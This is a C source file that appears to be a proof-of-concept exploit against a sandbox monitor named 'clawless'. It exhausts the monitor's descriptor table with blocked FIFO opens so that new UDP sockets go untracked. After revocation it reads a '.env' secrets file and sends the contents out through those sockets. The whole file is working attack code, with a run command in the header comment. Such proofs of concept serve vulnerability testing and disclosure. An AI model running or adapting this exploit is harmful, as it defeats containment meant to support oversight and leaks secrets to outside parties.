// Exfiltration after the taint through a socket the monitor did not track.
// connect_or_bind (runtime/src/emulate/net.rs) registers a connected socket with
// `sock.try_clone()`; when that dup fails (the monitor's descriptor table is
// full) it connects anyway, untracked, and revocation never shuts it down.
// Children blocked opening a FIFO hold the monitor's descriptors; killing one
// frees a slot; connects then race ordinary opens (threads) for the last slots.
// Run: prlimit --nofile=128:128 clawless exec -- ./emfile_untracked 127.0.0.9
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
static volatile int stop;
static void *opener(void *x) {
    (void)x;
    while (!stop) { int fd = open("ok.txt", O_RDONLY); if (fd >= 0) close(fd); }
    return NULL;
}
static struct sockaddr_in a = { .sin_family = AF_INET };
static int try_connect(void) {
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    if (s < 0) return -2;
    if (connect(s, (void *)&a, sizeof a) == 0) return s;
    int e = errno; close(s); errno = e; return -1;
}
int main(int argc, char **argv) {
    a.sin_port = htons(53);
    inet_pton(AF_INET, argc > 1 ? argv[1] : "127.0.0.9", &a.sin_addr);
    int socks[512], ns = 0; pid_t kids[512]; int nk = 0;
    unlink("f"); mkfifo("f", 0600);
    int s0 = try_connect();
    if (s0 < 0) { perror("first connect"); return 1; }
    write(s0, "before\n", 7); socks[ns++] = s0;
    // Fill the monitor with blocked FIFO opens until a connect gets EBADF.
    while (nk < 500) {
        pid_t p = fork();
        if (p == 0) { open("f", O_RDONLY); _exit(0); }
        kids[nk++] = p; usleep(20000);
        int s = try_connect();
        if (s >= 0) { if (ns < 500) socks[ns++] = s; continue; }
        if (errno == EBADF || errno == EMFILE) break;
    }
    printf("blocked opens: %d, sockets: %d\n", nk, ns); fflush(stdout);
    pthread_t t[3]; for (int i = 0; i < 3; i++) pthread_create(&t[i], NULL, opener, NULL);
    for (int round = 0; round < 80 && nk > 0 && ns < 500; round++) {
        kill(kids[--nk], SIGKILL); waitpid(kids[nk], NULL, 0);
        usleep(150000);   // the watchdog's sweep interrupts the dead child's open
        for (int k = 0; k < 50; k++) { int s = try_connect(); if (s >= 0) { socks[ns++] = s; break; } }
    }
    stop = 1; for (int i = 0; i < 3; i++) pthread_join(t[i], NULL);
    while (nk > 0) { kill(kids[--nk], SIGKILL); waitpid(kids[nk], NULL, 0); }
    sleep(1);
    char buf[256] = {0}; ssize_t n = -1;
    for (int k = 0; k < 50 && n < 0; k++) { int fd = open(".env", O_RDONLY); if (fd >= 0) { n = read(fd, buf, sizeof buf - 1); close(fd); } else usleep(100000); }
    printf("read secret: %zd\n", n); fflush(stdout);
    int leaked = 0;
    for (int i = 0; i < ns; i++) if (write(socks[i], buf, n > 0 ? n : 0) > 0) leaked++;
    printf("sockets still sending after the taint: %d of %d\n", leaked, ns);
    unlink("f");
    return 0;
}
